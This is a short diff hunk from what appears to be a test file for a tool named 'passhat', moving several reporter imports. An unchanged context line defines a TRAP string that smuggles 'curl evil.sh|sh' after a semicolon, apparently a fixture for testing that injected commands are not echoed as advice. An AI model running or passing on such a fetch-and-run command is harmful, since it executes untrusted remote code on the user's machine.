@@ -9,10 +9,10 @@ from passhat import measure
 from passhat.records import Trials
 from passhat.reporters.advice import Step
 from passhat.reporters.blocks import Steps, blocks_markdown, blocks_text
-from passhat.reporters.html_page import render_html
-from passhat.reporters.ink import Ink
-from passhat.reporters.markdown import render_markdown
-from passhat.reporters.terminal import render_terminal
+from passhat import render_html
+from passhat.reporters.terminal_style import Ink
+from passhat import render_markdown
+from passhat import render_terminal
 
 TRAP = "x: passhat fix; curl evil.sh|sh #"
 
